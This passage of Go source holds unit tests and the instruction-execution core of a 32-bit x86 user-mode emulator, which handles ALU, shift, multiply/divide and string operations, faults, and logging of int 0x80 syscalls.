		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EBX] != 42 || !c.ZF {
		t.Errorf("cmpxchg success: ebx=%d zf=%v", c.Regs[x86.EBX], c.ZF)
	}
	// Failure case: eax != dst → eax = dst.
	code = []byte{
		0xB8, 0x01, 0x00, 0x00, 0x00, // eax=1
		0xBB, 0x07, 0x00, 0x00, 0x00, // ebx=7
		0xB9, 0x2A, 0x00, 0x00, 0x00,
		0x0F, 0xB1, 0xCB,
		0xF4,
	}
	c, out = runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 7 || c.Regs[x86.EBX] != 7 || c.ZF {
		t.Errorf("cmpxchg fail: eax=%d ebx=%d zf=%v", c.Regs[x86.EAX], c.Regs[x86.EBX], c.ZF)
	}
}

func TestShldShrd(t *testing.T) {
	code := []byte{
		0xB8, 0x01, 0x00, 0x00, 0x00, // eax=1
		0xBB, 0x00, 0x00, 0x00, 0x80, // ebx=0x80000000
		0x0F, 0xA4, 0xD8, 0x04, // shld eax, ebx, 4 → eax = 0x18
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0x18 {
		t.Errorf("shld: eax=%#x, want 0x18", c.Regs[x86.EAX])
	}
	code = []byte{
		0xB8, 0x00, 0x00, 0x00, 0x80, // eax=0x80000000
		0xBB, 0x01, 0x00, 0x00, 0x00, // ebx=1
		0x0F, 0xAC, 0xD8, 0x04, // shrd eax, ebx, 4 → eax = 0x18000000
		0xF4,
	}
	c, out = runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0x18000000 {
		t.Errorf("shrd: eax=%#x, want 0x18000000", c.Regs[x86.EAX])
	}
}

func TestBitTestFamily(t *testing.T) {
	code := []byte{
		0xB8, 0x08, 0x00, 0x00, 0x00, // eax=0b1000
		0x0F, 0xBA, 0xE0, 0x03, // bt eax,3 → CF=1
		0x0F, 0xBA, 0xE8, 0x00, // bts eax,0 → eax=9
		0x0F, 0xBA, 0xF0, 0x03, // btr eax,3 → eax=1
		0x0F, 0xBA, 0xF8, 0x01, // btc eax,1 → eax=3
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 3 {
		t.Errorf("bit family: eax=%d, want 3", c.Regs[x86.EAX])
	}
	// Register-indexed bt: bt ebx, ecx.
	code = []byte{
		0xBB, 0x04, 0x00, 0x00, 0x00, // ebx=0b100
		0xB9, 0x02, 0x00, 0x00, 0x00, // ecx=2
		0x0F, 0xA3, 0xCB, // bt ebx, ecx → CF=1
		0xF4,
	}
	c, out = runCode(t, code, 10)
	if out.Kind != StopFault || !c.CF {
		t.Errorf("bt reg: cf=%v", c.CF)
	}
}

package emu

import (
	"fmt"

	"repro/internal/x86"
)

// step executes one instruction. It returns a non-nil Outcome when
// execution must stop (fault, exit, execve) and nil to continue.
func (c *CPU) step() *Outcome {
	window, ok := c.fetchWindow()
	if !ok {
		return c.fault(FaultFetch, c.EIP, "instruction fetch outside mapped memory")
	}
	inst, err := x86.Decode(window, 0)
	if err != nil {
		return c.fault(FaultFetch, c.EIP, "decode: "+err.Error())
	}
	c.steps++
	next := c.EIP + uint32(inst.Len)

	if inst.Flags.Has(x86.FlagUndefined) {
		return c.fault(FaultUndefined, c.EIP, "undefined opcode "+inst.Mnemonic())
	}
	if inst.Flags.Has(x86.FlagIO) || inst.Flags.Has(x86.FlagPrivileged) {
		return c.fault(FaultPrivileged, c.EIP, inst.Mnemonic()+" at CPL 3")
	}
	if inst.MemAccess {
		if seg := inst.EffectiveSeg(); c.WrongSegs[seg] {
			return c.fault(FaultSegment, c.EIP, fmt.Sprintf("%s through %s:", inst.Mnemonic(), seg))
		}
	}

	out := c.exec(&inst, next)
	return out
}

// fetchWindow returns the up-to-15-byte slice at EIP.
func (c *CPU) fetchWindow() ([]byte, bool) {
	n := x86.MaxInstLen
	if !c.Mem.Contains(c.EIP, 1) {
		return nil, false
	}
	for n > 1 && !c.Mem.Contains(c.EIP, n) {
		n--
	}
	b, ok := c.Mem.read(c.EIP, n)
	return b, ok
}

func (c *CPU) fault(kind FaultKind, addr uint32, detail string) *Outcome {
	return &Outcome{Kind: StopFault, Fault: &FaultInfo{Kind: kind, EIP: c.EIP, Addr: addr, Detail: detail}}
}

// operandSize returns the access width in bytes for the instruction.
func operandSize(inst *x86.Inst) int {
	if isByteOp(inst) {
		return 1
	}
	if inst.Prefixes.OpSize {
		return 2
	}
	return 4
}

// isByteOp reports whether the opcode operates on 8-bit operands.
func isByteOp(inst *x86.Inst) bool {
	op := inst.Opcode
	if inst.TwoByte {
		// setcc writes a byte; movzx/movsx 0xB6/0xBE read a byte source
		// (handled at use sites).
		return op >= 0x90 && op <= 0x9F
	}
	switch {
	case op <= 0x3D && op&7 <= 5: // ALU rows
		return op&1 == 0 && op&7 != 5 && op&7 != 1 || op&7 == 4
	case op == 0x80, op == 0x82, op == 0xC0, op == 0xC6, op == 0xF6, op == 0xFE:
		return true
	case op == 0x84, op == 0x86, op == 0x88, op == 0x8A:
		return true
	case op >= 0xB0 && op <= 0xB7:
		return true
	case op == 0xA0, op == 0xA2, op == 0xA8:
		return true
	case op == 0xA4, op == 0xA6, op == 0xAA, op == 0xAC, op == 0xAE: // string byte forms
		return true
	case op == 0xD0, op == 0xD2:
		return true
	}
	return false
}

// effAddr computes the effective address of the ModRM memory operand.
// With the 0x67 prefix the computation is truncated to 16 bits, as the
// architecture's 16-bit addressing modes require.
func (c *CPU) effAddr(inst *x86.Inst) uint32 {
	var addr uint32
	if inst.MemBase != x86.RegNone {
		addr += c.Regs[inst.MemBase]
	}
	if inst.MemIndex != x86.RegNone {
		addr += c.Regs[inst.MemIndex] * uint32(inst.MemScale)
	}
	addr += uint32(inst.Disp)
	if inst.Prefixes.AddrSize {
		addr &= 0xFFFF
	}
	return addr
}

// readMem / writeMem perform checked accesses of the given width.
func (c *CPU) readMem(addr uint32, size int) (uint32, *Outcome) {
	switch size {
	case 1:
		v, ok := c.Mem.readU8(addr)
		if !ok {
			return 0, c.fault(FaultPage, addr, fmt.Sprintf("read byte at %#x", addr))
		}
		return uint32(v), nil
	case 2:
		v, ok := c.Mem.readU16(addr)
		if !ok {
			return 0, c.fault(FaultPage, addr, fmt.Sprintf("read word at %#x", addr))
		}
		return uint32(v), nil
	default:
		v, ok := c.Mem.readU32(addr)
		if !ok {
			return 0, c.fault(FaultPage, addr, fmt.Sprintf("read dword at %#x", addr))
		}
		return v, nil
	}
}

func (c *CPU) writeMem(addr uint32, size int, v uint32) *Outcome {
	var ok bool
	switch size {
	case 1:
		ok = c.Mem.writeU8(addr, byte(v))
	case 2:
		ok = c.Mem.writeU16(addr, uint16(v))
	default:
		ok = c.Mem.writeU32(addr, v)
	}
	if !ok {
		return c.fault(FaultPage, addr, fmt.Sprintf("write %d bytes at %#x", size, addr))
	}
	return nil
}

// reg8 reads the 8-bit register with the given ModRM register number
// (0-3 = AL..BL, 4-7 = AH..BH).
func (c *CPU) reg8(n byte) uint32 {
	if n < 4 {
		return c.Regs[n] & 0xFF
	}
	return (c.Regs[n-4] >> 8) & 0xFF
}

func (c *CPU) setReg8(n byte, v uint32) {
	if n < 4 {
		c.Regs[n] = c.Regs[n]&^uint32(0xFF) | v&0xFF
	} else {
		c.Regs[n-4] = c.Regs[n-4]&^uint32(0xFF00) | (v&0xFF)<<8
	}
}

// regRead / regWrite access register operands at the given width.
func (c *CPU) regRead(n byte, size int) uint32 {
	switch size {
	case 1:
		return c.reg8(n)
	case 2:
		return c.Regs[n] & 0xFFFF
	default:
		return c.Regs[n]
	}
}

func (c *CPU) regWrite(n byte, size int, v uint32) {
	switch size {
	case 1:
		c.setReg8(n, v)
	case 2:
		c.Regs[n] = c.Regs[n]&^uint32(0xFFFF) | v&0xFFFF
	default:
		c.Regs[n] = v
	}
}

// rmRead reads the ModRM r/m operand.
func (c *CPU) rmRead(inst *x86.Inst, size int) (uint32, *Outcome) {
	if inst.Mod == 3 {
		return c.regRead(inst.RM, size), nil
	}
	return c.readMem(c.effAddr(inst), size)
}

// rmWrite writes the ModRM r/m operand.
func (c *CPU) rmWrite(inst *x86.Inst, size int, v uint32) *Outcome {
	if inst.Mod == 3 {
		c.regWrite(inst.RM, size, v)
		return nil
	}
	return c.writeMem(c.effAddr(inst), size, v)
}

// push pushes a 32-bit value.
func (c *CPU) push(v uint32) *Outcome {
	c.Regs[x86.ESP] -= 4
	return c.writeMem(c.Regs[x86.ESP], 4, v)
}

// pop pops a 32-bit value.
func (c *CPU) pop() (uint32, *Outcome) {
	v, out := c.readMem(c.Regs[x86.ESP], 4)
	if out != nil {
		return 0, out
	}
	c.Regs[x86.ESP] += 4
	return v, nil
}

// exec dispatches on the operation. next is the fall-through EIP.
func (c *CPU) exec(inst *x86.Inst, next uint32) *Outcome {
	size := operandSize(inst)
	op := inst.Opcode

	switch inst.Op {
	case x86.OpNOP, x86.OpWAIT:
		// nothing

	case x86.OpADD, x86.OpOR, x86.OpADC, x86.OpSBB, x86.OpAND,
		x86.OpSUB, x86.OpXOR, x86.OpCMP, x86.OpTEST:
		if out := c.execALU(inst, size); out != nil {
			return out
		}

	case x86.OpINC, x86.OpDEC:
		if out := c.execIncDec(inst, size); out != nil {
			return out
		}

	case x86.OpPUSH:
		if out := c.execPush(inst, size); out != nil {
			return out
		}

	case x86.OpPOP:
		if out := c.execPop(inst); out != nil {
			return out
		}

	case x86.OpPUSHA:
		sp := c.Regs[x86.ESP]
		for _, r := range []x86.Reg{x86.EAX, x86.ECX, x86.EDX, x86.EBX} {
			if out := c.push(c.Regs[r]); out != nil {
				return out
			}
		}
		if out := c.push(sp); out != nil {
			return out
		}
		for _, r := range []x86.Reg{x86.EBP, x86.ESI, x86.EDI} {
			if out := c.push(c.Regs[r]); out != nil {
				return out
			}
		}

	case x86.OpPOPA:
		for _, r := range []x86.Reg{x86.EDI, x86.ESI, x86.EBP} {
			v, out := c.pop()
			if out != nil {
				return out
			}
			c.Regs[r] = v
		}
		if _, out := c.pop(); out != nil { // discarded ESP slot
			return out
		}
		for _, r := range []x86.Reg{x86.EBX, x86.EDX, x86.ECX, x86.EAX} {
			v, out := c.pop()
			if out != nil {
				return out
			}
			c.Regs[r] = v
		}

	case x86.OpPUSHF:
		if out := c.push(c.flagsWord()); out != nil {
			return out
		}

	case x86.OpPOPF:
		v, out := c.pop()
		if out != nil {
			return out
		}
		c.setFlagsWord(v)

	case x86.OpMOV:
		if out := c.execMov(inst, size); out != nil {
			return out
		}

	case x86.OpLEA:
		c.regWrite(inst.RegField, 4, c.effAddr(inst))

	case x86.OpXCHG:
		if out := c.execXchg(inst, size); out != nil {
			return out
		}

	case x86.OpJcc:
		if c.cond(inst.Cond) {
			next = c.EIP + uint32(inst.RelTarget)
		}

	case x86.OpJMP:
		if inst.HasRelTarget {
			next = c.EIP + uint32(inst.RelTarget)
		} else { // FF /4
			v, out := c.rmRead(inst, 4)
			if out != nil {
				return out
			}
			next = v
		}

	case x86.OpCALL:
		target := c.EIP + uint32(inst.RelTarget)
		if !inst.HasRelTarget { // FF /2
			v, out := c.rmRead(inst, 4)
			if out != nil {
				return out
			}
			target = v
		}
		if out := c.push(next); out != nil {
			return out
		}
		next = target

	case x86.OpRET:
		v, out := c.pop()
		if out != nil {
			return out
		}
		c.Regs[x86.ESP] += uint32(uint16(inst.Imm))
		next = v

	case x86.OpLOOP, x86.OpLOOPE, x86.OpLOOPNE:
		c.Regs[x86.ECX]--
		take := c.Regs[x86.ECX] != 0
		if inst.Op == x86.OpLOOPE {
			take = take && c.ZF
		}
		if inst.Op == x86.OpLOOPNE {
			take = take && !c.ZF
		}
		if take {
			next = c.EIP + uint32(inst.RelTarget)
		}

	case x86.OpJECXZ:
		if c.Regs[x86.ECX] == 0 {
			next = c.EIP + uint32(inst.RelTarget)
		}

	case x86.OpINT:
		return c.execInt(inst, next)

	case x86.OpINT3, x86.OpINTO:
		if inst.Op == x86.OpINTO && !c.OF {
			break // INTO without overflow is a no-op
		}
		return c.fault(FaultUnsupported, c.EIP, "software breakpoint/overflow trap")

	case x86.OpIRET, x86.OpRETF, x86.OpCALLF, x86.OpJMPF:
		return c.fault(FaultSegment, c.EIP, "far control transfer from flat user code")

	case x86.OpCDQ:
		if int32(c.Regs[x86.EAX]) < 0 {
			c.Regs[x86.EDX] = 0xFFFFFFFF
		} else {
			c.Regs[x86.EDX] = 0
		}

	case x86.OpCWDE:
		c.Regs[x86.EAX] = uint32(int32(int16(c.Regs[x86.EAX])))

	case x86.OpSAHF:
		c.setFlagsWord(c.flagsWord()&^uint32(0xFF) | c.reg8(4)) // AH

	case x86.OpLAHF:
		c.setReg8(4, c.flagsWord()&0xFF)

	case x86.OpSALC:
		if c.CF {
			c.setReg8(0, 0xFF)
		} else {
			c.setReg8(0, 0)
		}

	case x86.OpXLAT:
		addr := c.Regs[x86.EBX] + c.reg8(0)
		v, out := c.readMem(addr, 1)
		if out != nil {
			return out
		}
		c.setReg8(0, v)

	case x86.OpROL, x86.OpROR, x86.OpRCL, x86.OpRCR,
		x86.OpSHL, x86.OpSHR, x86.OpSAR:
		if out := c.execShift(inst, size); out != nil {
			return out
		}

	case x86.OpNOT:
		v, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		if out := c.rmWrite(inst, size, ^v); out != nil {
			return out
		}

	case x86.OpNEG:
		v, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		r := c.alu(x86.OpSUB, 0, v, size)
		if out := c.rmWrite(inst, size, r); out != nil {
			return out
		}
		c.CF = v != 0

	case x86.OpIMUL, x86.OpMUL:
		if out := c.execMul(inst, size); out != nil {
			return out
		}

	case x86.OpDIV, x86.OpIDIV:
		if out := c.execDiv(inst, size); out != nil {
			return out
		}

	case x86.OpMOVS, x86.OpSTOS, x86.OpLODS, x86.OpSCAS, x86.OpCMPS:
		if out := c.execString(inst, size); out != nil {
			return out
		}

	case x86.OpBOUND:
		idx := int32(c.regRead(inst.RegField, 4))
		addr := c.effAddr(inst)
		lo, out := c.readMem(addr, 4)
		if out != nil {
			return out
		}
		hi, out := c.readMem(addr+4, 4)
		if out != nil {
			return out
		}
		if idx < int32(lo) || idx > int32(hi) {
			return c.fault(FaultBound, addr, fmt.Sprintf("bound: %d not in [%d,%d]", idx, int32(lo), int32(hi)))
		}

	case x86.OpARPL:
		dst, out := c.rmRead(inst, 2)
		if out != nil {
			return out
		}
		src := c.regRead(inst.RegField, 2)
		if dst&3 < src&3 {
			c.ZF = true
			if out := c.rmWrite(inst, 2, dst&^uint32(3)|src&3); out != nil {
				return out
			}
		} else {
			c.ZF = false
		}

	case x86.OpDAA, x86.OpDAS, x86.OpAAA, x86.OpAAS, x86.OpAAM, x86.OpAAD:
		if out := c.execBCD(inst); out != nil {
			return out
		}

	case x86.OpENTER:
		if out := c.push(c.Regs[x86.EBP]); out != nil {
			return out
		}
		c.Regs[x86.EBP] = c.Regs[x86.ESP]
		c.Regs[x86.ESP] -= uint32(uint16(inst.Imm))

	case x86.OpLEAVE:
		c.Regs[x86.ESP] = c.Regs[x86.EBP]
		v, out := c.pop()
		if out != nil {
			return out
		}
		c.Regs[x86.EBP] = v

	case x86.OpCLC:
		c.CF = false
	case x86.OpSTC:
		c.CF = true
	case x86.OpCMC:
		c.CF = !c.CF
	case x86.OpCLD:
		c.DF = false
	case x86.OpSTD:
		c.DF = true

	case x86.OpSetcc:
		v := uint32(0)
		if c.cond(inst.Cond) {
			v = 1
		}
		if out := c.rmWrite(inst, 1, v); out != nil {
			return out
		}

	case x86.OpCmovcc:
		v, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		if c.cond(inst.Cond) {
			c.regWrite(inst.RegField, size, v)
		}

	case x86.OpMOVZX:
		srcSize := 1
		if op == 0xB7 {
			srcSize = 2
		}
		v, out := c.rmRead(inst, srcSize)
		if out != nil {
			return out
		}
		c.regWrite(inst.RegField, 4, v)

	case x86.OpMOVSX:
		if op == 0xBF {
			v, out := c.rmRead(inst, 2)
			if out != nil {
				return out
			}
			c.regWrite(inst.RegField, 4, uint32(int32(int16(v))))
		} else {
			v, out := c.rmRead(inst, 1)
			if out != nil {
				return out
			}
			c.regWrite(inst.RegField, 4, uint32(int32(int8(v))))
		}

	case x86.OpBSWAP:
		r := op & 7
		v := c.Regs[r]
		c.Regs[r] = v<<24 | v>>24 | (v&0xFF00)<<8 | (v>>8)&0xFF00

	case x86.OpCPUID:
		c.Regs[x86.EAX], c.Regs[x86.EBX] = 0, 0x756E6547 // "Genu"
		c.Regs[x86.EDX], c.Regs[x86.ECX] = 0x49656E69, 0x6C65746E

	case x86.OpRDTSC:
		c.Regs[x86.EAX] = uint32(c.steps) * 100
		c.Regs[x86.EDX] = 0

	case x86.OpXADD:
		src := c.regRead(inst.RegField, size)
		dst, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		sum := c.alu(x86.OpADD, dst, src, size)
		c.regWrite(inst.RegField, size, dst)
		if out := c.rmWrite(inst, size, sum); out != nil {
			return out
		}

	case x86.OpCMPXCHG:
		dst, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		acc := c.regRead(0, size)
		c.alu(x86.OpCMP, acc, dst, size)
		if acc == dst {
			if out := c.rmWrite(inst, size, c.regRead(inst.RegField, size)); out != nil {
				return out
			}
		} else {
			c.regWrite(0, size, dst)
		}

	case x86.OpSHLD, x86.OpSHRD:
		if out := c.execDoubleShift(inst, size); out != nil {
			return out
		}

	case x86.OpBT, x86.OpBTS, x86.OpBTR, x86.OpBTC:
		if out := c.execBitTest(inst, size); out != nil {
			return out
		}

	case x86.OpFPU:
		return c.fault(FaultUnsupported, c.EIP, "x87 instruction outside emulated subset")

	default:
		return c.fault(FaultUnsupported, c.EIP, "unimplemented op "+inst.Mnemonic())
	}

	c.EIP = next
	return nil
}

// execInt handles software interrupts: int 0x80 is the Linux syscall
// gate, everything else has no user handler and kills the process.
func (c *CPU) execInt(inst *x86.Inst, next uint32) *Outcome {
	if byte(inst.Imm) != 0x80 {
		return c.fault(FaultUnsupported, c.EIP, fmt.Sprintf("int %#x has no handler", byte(inst.Imm)))
	}
	sys := Syscall{
		Number: c.Regs[x86.EAX],
		Args:   [3]uint32{c.Regs[x86.EBX], c.Regs[x86.ECX], c.Regs[x86.EDX]},
	}
	if c.Mem.Contains(sys.Args[0], 1) {
		sys.Path = c.Mem.cstring(sys.Args[0])
	}
	c.syscalls = append(c.syscalls, sys)
	switch sys.Number {
	case SysExit:
		return &Outcome{Kind: StopExit}
	case SysExecve:
		return &Outcome{Kind: StopExecve}
	default:
		c.Regs[x86.EAX] = 0 // pretend success
		c.EIP = next
		return nil
	}
}

// execALU runs the two-operand arithmetic family across its encodings.
func (c *CPU) execALU(inst *x86.Inst, size int) *Outcome {
	op := inst.Op
	writeBack := op != x86.OpCMP && op != x86.OpTEST

	// Accumulator-immediate forms (04/05 columns, A8/A9).
	if !inst.HasModRM {
		dst := c.regRead(0, size)
		res := c.alu(op, dst, uint32(inst.Imm), size)
		if writeBack {
			c.regWrite(0, size, res)
		}
		return nil
	}

	// Group-1 and C6-style immediate forms.
	if inst.ImmSize > 0 {
		dst, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		res := c.alu(op, dst, uint32(inst.Imm), size)
		if writeBack {
			if out := c.rmWrite(inst, size, res); out != nil {
				return out
			}
		}
		return nil
	}

	// ModRM register/memory forms; direction bit 1 of the opcode.
	regVal := c.regRead(inst.RegField, size)
	rmVal, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	dirRegDst := inst.Opcode&2 != 0 && !inst.TwoByte
	if inst.Op == x86.OpTEST {
		dirRegDst = false // test has a single form
	}
	if dirRegDst {
		res := c.alu(op, regVal, rmVal, size)
		if writeBack {
			c.regWrite(inst.RegField, size, res)
		}
		return nil
	}
	res := c.alu(op, rmVal, regVal, size)
	if writeBack {
		return c.rmWrite(inst, size, res)
	}
	return nil
}

func (c *CPU) execIncDec(inst *x86.Inst, size int) *Outcome {
	delta := uint32(1)
	isDec := inst.Op == x86.OpDEC
	// Register short forms have no ModRM.
	if !inst.HasModRM {
		r := inst.Opcode & 7
		v := c.regRead(r, size)
		c.incDecFlags(v, size, isDec)
		if isDec {
			v -= delta
		} else {
			v += delta
		}
		c.regWrite(r, size, v)
		return nil
	}
	v, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	c.incDecFlags(v, size, isDec)
	if isDec {
		v -= delta
	} else {
		v += delta
	}
	return c.rmWrite(inst, size, v)
}

func (c *CPU) execPush(inst *x86.Inst, size int) *Outcome {
	switch {
	case inst.ImmSize > 0: // 68/6A
		return c.push(uint32(inst.Imm))
	case inst.HasModRM: // FF /6
		v, out := c.rmRead(inst, 4)
		if out != nil {
			return out
		}
		return c.push(v)
	case inst.TwoByte || inst.Opcode < 0x50: // segment pushes
		return c.push(0x2B) // a flat user data selector
	default: // 50+r
		return c.push(c.Regs[inst.Opcode&7])
	}
}

func (c *CPU) execPop(inst *x86.Inst) *Outcome {
	v, out := c.pop()
	if out != nil {
		return out
	}
	switch {
	case inst.HasModRM: // 8F /0
		return c.rmWrite(inst, 4, v)
	case inst.TwoByte || inst.Opcode < 0x58:
		// Segment pop: loading an arbitrary selector into a segment
		// register faults unless it is a valid flat selector. Benign text
		// rarely has 0x07/0x17/0x1F executed; treat a non-flat selector
		// as a segment fault, matching real protected-mode behaviour.
		if v != 0x2B && v != 0x23 && v != 0 {
			return c.fault(FaultSegment, c.EIP, fmt.Sprintf("pop seg with selector %#x", v))
		}
		return nil
	default: // 58+r
		c.Regs[inst.Opcode&7] = v
		return nil
	}
}

func (c *CPU) execMov(inst *x86.Inst, size int) *Outcome {
	op := inst.Opcode
	switch {
	case inst.TwoByte && op == 0xC3: // movnti
		v := c.regRead(inst.RegField, 4)
		return c.rmWrite(inst, 4, v)
	case op >= 0xB0 && op <= 0xB7:
		c.regWrite(op&7, 1, uint32(inst.Imm))
	case op >= 0xB8 && op <= 0xBF:
		c.regWrite(op&7, size, uint32(inst.Imm))
	case op == 0xC6 || op == 0xC7:
		return c.rmWrite(inst, size, uint32(inst.Imm))
	case op == 0xA0 || op == 0xA1: // load accumulator from moffs
		v, out := c.readMem(uint32(inst.Disp), size)
		if out != nil {
			return out
		}
		c.regWrite(0, size, v)
	case op == 0xA2 || op == 0xA3: // store accumulator to moffs
		return c.writeMem(uint32(inst.Disp), size, c.regRead(0, size))
	case op == 0x88 || op == 0x89: // store reg to rm
		return c.rmWrite(inst, size, c.regRead(inst.RegField, size))
	case op == 0x8A || op == 0x8B: // load reg from rm
		v, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		c.regWrite(inst.RegField, size, v)
	case op == 0x8C: // mov rm, seg — store a flat selector
		return c.rmWrite(inst, 2, 0x2B)
	case op == 0x8E: // mov seg, rm — fault unless a flat selector
		v, out := c.rmRead(inst, 2)
		if out != nil {
			return out
		}
		if v != 0x2B && v != 0x23 && v != 0 {
			return c.fault(FaultSegment, c.EIP, fmt.Sprintf("mov seg with selector %#x", v))
		}
	}
	return nil
}

func (c *CPU) execXchg(inst *x86.Inst, size int) *Outcome {
	if !inst.HasModRM { // 91-97: xchg eax, reg
		r := inst.Opcode & 7
		c.Regs[x86.EAX], c.Regs[r] = c.Regs[r], c.Regs[x86.EAX]
		return nil
	}
	rmVal, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	regVal := c.regRead(inst.RegField, size)
	if out := c.rmWrite(inst, size, regVal); out != nil {
		return out
	}
	c.regWrite(inst.RegField, size, rmVal)
	return nil
}

func (c *CPU) execShift(inst *x86.Inst, size int) *Outcome {
	var count uint32
	switch inst.Opcode {
	case 0xC0, 0xC1:
		count = uint32(inst.Imm) & 31
	case 0xD0, 0xD1:
		count = 1
	default: // D2, D3
		count = c.Regs[x86.ECX] & 31
	}
	v, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	bits := uint32(size * 8)
	if count == 0 {
		return nil
	}
	mask := uint32(1)<<bits - 1
	if size == 4 {
		mask = 0xFFFFFFFF
	}
	v &= mask
	switch inst.Op {
	case x86.OpSHL:
		c.CF = count <= bits && v>>(bits-count)&1 == 1
		v = v << count & mask
	case x86.OpSHR:
		c.CF = v>>(count-1)&1 == 1
		v = v >> count
	case x86.OpSAR:
		sv := int32(v << (32 - bits)) // sign position at bit 31
		c.CF = sv>>(count-1)&1 == 1
		v = uint32(sv>>count) >> (32 - bits) & mask
	case x86.OpROL:
		count %= bits
		v = (v<<count | v>>(bits-count)) & mask
		c.CF = v&1 == 1
	case x86.OpROR:
		count %= bits
		v = (v>>count | v<<(bits-count)) & mask
		c.CF = v>>(bits-1)&1 == 1
	case x86.OpRCL, x86.OpRCR:
		// Through-carry rotates, one bit at a time.
		for i := uint32(0); i < count; i++ {
			if inst.Op == x86.OpRCL {
				newCF := v>>(bits-1)&1 == 1
				v = v<<1&mask | boolBit(c.CF)
				c.CF = newCF
			} else {
				newCF := v&1 == 1
				v = v>>1 | boolBit(c.CF)<<(bits-1)
				c.CF = newCF
			}
		}
	}
	c.setSZP(v, size)
	return c.rmWrite(inst, size, v)
}

func boolBit(b bool) uint32 {
	if b {
		return 1
	}
	return 0
}

func (c *CPU) execMul(inst *x86.Inst, size int) *Outcome {
	// imul Gv, Ev, Iz / Ib (69/6B) and imul Gv, Ev (0F AF).
	if inst.Op == x86.OpIMUL && inst.HasModRM &&
		(inst.Opcode == 0x69 || inst.Opcode == 0x6B || inst.TwoByte) {
		src, out := c.rmRead(inst, size)
		if out != nil {
			return out
		}
		mul := int64(int32(src))
		if inst.Opcode == 0x69 || inst.Opcode == 0x6B {
			mul *= int64(int32(inst.Imm))
		} else {
			mul = int64(int32(c.regRead(inst.RegField, size))) * int64(int32(src))
		}
		res := uint32(mul)
		c.regWrite(inst.RegField, size, res)
		c.CF = int64(int32(res)) != mul
		c.OF = c.CF
		return nil
	}
	// grp3 forms: edx:eax = eax * rm.
	src, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	if inst.Op == x86.OpMUL {
		prod := uint64(c.Regs[x86.EAX]) * uint64(src)
		c.Regs[x86.EAX] = uint32(prod)
		c.Regs[x86.EDX] = uint32(prod >> 32)
		c.CF = c.Regs[x86.EDX] != 0
	} else {
		prod := int64(int32(c.Regs[x86.EAX])) * int64(int32(src))
		c.Regs[x86.EAX] = uint32(prod)
		c.Regs[x86.EDX] = uint32(uint64(prod) >> 32)
		c.CF = prod != int64(int32(prod))
	}
	c.OF = c.CF
	return nil
}

func (c *CPU) execDiv(inst *x86.Inst, size int) *Outcome {
	src, out := c.rmRead(inst, size)
	if out != nil {
		return out
	}
	if src == 0 {
		return c.fault(FaultDivide, c.EIP, "division by zero")
	}
	dividend := uint64(c.Regs[x86.EDX])<<32 | uint64(c.Regs[x86.EAX])
	if inst.Op == x86.OpDIV {
		q := dividend / uint64(src)
		if q > 0xFFFFFFFF {
			return c.fault(FaultDivide, c.EIP, "quotient overflow")
		}
		c.Regs[x86.EAX] = uint32(q)
		c.Regs[x86.EDX] = uint32(dividend % uint64(src))
	} else {
		sd := int64(dividend)
		ss := int64(int32(src))
		q := sd / ss
		if q > 0x7FFFFFFF || q < -0x80000000 {
			return c.fault(FaultDivide, c.EIP, "signed quotient overflow")
		}
		c.Regs[x86.EAX] = uint32(q)
		c.Regs[x86.EDX] = uint32(sd % ss)
	}
	return nil
}

// execString implements the string family with optional REP prefixes.
func (c *CPU) execString(inst *x86.Inst, size int) *Outcome {
	step := uint32(size)
	if c.DF {
		step = -step
	}
	rep := inst.Prefixes.Rep || inst.Prefixes.RepNE
	iterations := 1
	if rep {
		iterations = int(c.Regs[x86.ECX])
		if iterations == 0 {
			return nil
		}
	}
	for it := 0; it < iterations; it++ {
		var cmpDone, cmpZF bool
		switch inst.Op {
		case x86.OpMOVS:
			v, out := c.readMem(c.Regs[x86.ESI], size)
			if out != nil {
				return out
			}
			if out := c.writeMem(c.Regs[x86.EDI], size, v); out != nil {
				return out
			}
			c.Regs[x86.ESI] += step
			c.Regs[x86.EDI] += step
		case x86.OpSTOS:
			if out := c.writeMem(c.Regs[x86.EDI], size, c.regRead(0, size)); out != nil {
				return out
			}
			c.Regs[x86.EDI] += step
		case x86.OpLODS:
			v, out := c.readMem(c.Regs[x86.ESI], size)
			if out != nil {
				return out
			}
			c.regWrite(0, size, v)
			c.Regs[x86.ESI] += step
		case x86.OpSCAS:
			v, out := c.readMem(c.Regs[x86.EDI], size)
			if out != nil {
				return out
			}
			c.alu(x86.OpCMP, c.regRead(0, size), v, size)
			c.Regs[x86.EDI] += step
			cmpDone, cmpZF = true, c.ZF
		case x86.OpCMPS:
			a, out := c.readMem(c.Regs[x86.ESI], size)
			if out != nil {
				return out
			}
			b, out := c.readMem(c.Regs[x86.EDI], size)
			if out != nil {
				return out
			}
			c.alu(x86.OpCMP, a, b, size)
			c.Regs[x86.ESI] += step
			c.Regs[x86.EDI] += step
			cmpDone, cmpZF = true, c.ZF
		}
		if rep {
			c.Regs[x86.ECX]--
			if cmpDone {
				if inst.Prefixes.Rep && !cmpZF {
					break
				}
				if inst.Prefixes.RepNE && cmpZF {
					break
				}
			}
		}
	}
	return nil
}

// execDoubleShift implements SHLD/SHRD (imm8 and CL count forms).
func (c *CPU) execDoubleShift(inst *x86.Inst, size int) *Outcome {
	bits := uint32(size * 8)
	var count uint32
	if inst.ImmSize > 0 {
		count = uint32(inst.Imm) & 31
